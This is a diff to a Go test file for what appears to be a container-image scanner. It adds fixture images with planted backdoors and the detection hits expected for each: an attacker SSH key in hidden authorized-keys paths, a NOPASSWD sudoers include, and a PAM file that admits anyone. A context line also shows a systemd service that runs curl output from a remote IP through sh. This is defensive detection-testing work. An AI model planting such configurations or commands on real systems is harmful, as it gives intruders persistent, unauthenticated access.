@@ -150,5 +150,41 @@ func variantImages(t testing.TB, base v1.Layer) []plantedImage {
 			ent{name: "lib/systemd/system/netd.service", body: "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.30/n | sh'\n"}),
 	}, hit{rule: "sshd-weak-authentication", path: "/opt/sshcfg/sshd_config.d/00-x.conf", layer: 2},
 		hit{rule: "autostart-fetches-code", path: "/usr/lib/systemd/system/netd.service", layer: 2})
+
+	// Keys in a file only sshd's AuthorizedKeysFile names (%u expanded), a
+	// NOPASSWD grant in a directory sudoers includes, sshd options and a
+	// key file read through an Include outside sshd_config.d, a PAM file
+	// included by absolute path that lets anyone in: none of them in the
+	// documented path set. Look-alikes: a host key's .pub and a key-shaped
+	// file nothing names, a dotted file of the included directory (sudo
+	// skips it), an example sudoers nothing includes, a PAM-shaped file
+	// nothing includes.
+	key := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGw3b0x1cW5hcHBsZXNhdWNlbm90YXJlYWxrZXk attacker@c2\n"
+	add("test/v-named-files", nil, one(
+		ent{name: "etc/ssh/sshd_config", body: "Include /etc/ssh/sshd_config.d/*.conf\nInclude /usr/lib/.ssh/*.conf\nAuthorizedKeysFile .ssh/authorized_keys /var/lib/.cache/%u.pub\n"},
+		ent{name: "var/lib/.cache/root.pub", body: key},
+		ent{name: "usr/lib/.ssh/00-base.conf", body: "PermitRootLogin yes\nAuthorizedKeysFile /usr/lib/.ssh/keys\n"},
+		ent{name: "usr/lib/.ssh/keys", body: "# ops\n" + key},
+		ent{name: "etc/ssh/ssh_host_ed25519_key.pub", body: key},
+		ent{name: "opt/keys/deploy.pub", body: key},
+		ent{name: "etc/sudoers", body: "root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n@includedir /usr/share/.sudo\n"},
+		ent{name: "usr/share/.sudo/backup", body: "backup ALL=(ALL) NOPASSWD: ALL\nDefaults:backup !authenticate\n"},
+		ent{name: "usr/share/.sudo/notes.txt", body: "guest ALL=(ALL) NOPASSWD: ALL\n"},
+		ent{name: "usr/share/doc/sudo/examples/sudoers", body: "%wheel ALL=(ALL) NOPASSWD: ALL\n"},
+		ent{name: "etc/pam.d/common-auth", body: "@include /usr/local/lib/.pam/auth\nauth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n"},
+		ent{name: "usr/local/lib/.pam/auth", body: "auth sufficient pam_permit.so\n"},
+		ent{name: "usr/share/doc/pam/example", body: "auth sufficient pam_permit.so\n"}),
+		hit{rule: "ssh-keys-in-named-file", path: "/var/lib/.cache/root.pub", layer: 1},
+		hit{rule: "ssh-keys-in-named-file", path: "/usr/lib/.ssh/keys", layer: 1},
+		hit{rule: "sshd-weak-authentication", path: "/etc/ssh/sshd_config", layer: 1},
+		hit{rule: "include-outside-config-dirs", path: "/etc/ssh/sshd_config", layer: 1},
+		hit{rule: "included-config-grants", path: "/usr/lib/.ssh/00-base.conf", layer: 1},
+		hit{rule: "included-config-grants", path: "/usr/lib/.ssh/00-base.conf", layer: 1},
+		hit{rule: "include-outside-config-dirs", path: "/etc/sudoers", layer: 1},
+		hit{rule: "included-config-grants", path: "/usr/share/.sudo/backup", layer: 1},
+		hit{rule: "included-config-grants", path: "/usr/share/.sudo/backup", layer: 1},
+		hit{rule: "included-config-grants", path: "/usr/local/lib/.pam/auth", layer: 1},
+		hit{rule: "pam-accepts-anyone", path: "/etc/pam.d/common-auth", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/sudoers", layer: 1})
 	return out
 }
